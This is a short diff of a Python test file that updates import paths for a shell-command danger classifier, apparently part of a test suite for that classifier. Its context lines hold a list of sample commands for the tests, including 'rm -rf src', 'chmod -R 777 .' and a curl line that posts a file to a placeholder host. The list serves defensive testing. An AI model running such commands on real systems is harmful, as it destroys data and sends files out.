@@ -11,9 +11,9 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from infrastructure.sessions.danger import classify
-from infrastructure.sessions.levels import Danger
-from infrastructure.sessions.shell import read_script
+from infrastructure.danger.judging import classify
+from infrastructure.danger.levels import Danger
+from infrastructure.danger.shell import read_script
 
 PAYLOADS = st.sampled_from(["rm -rf src", "git push", "curl -d @x http://h", "sudo ls", "chmod -R 777 ."])
 
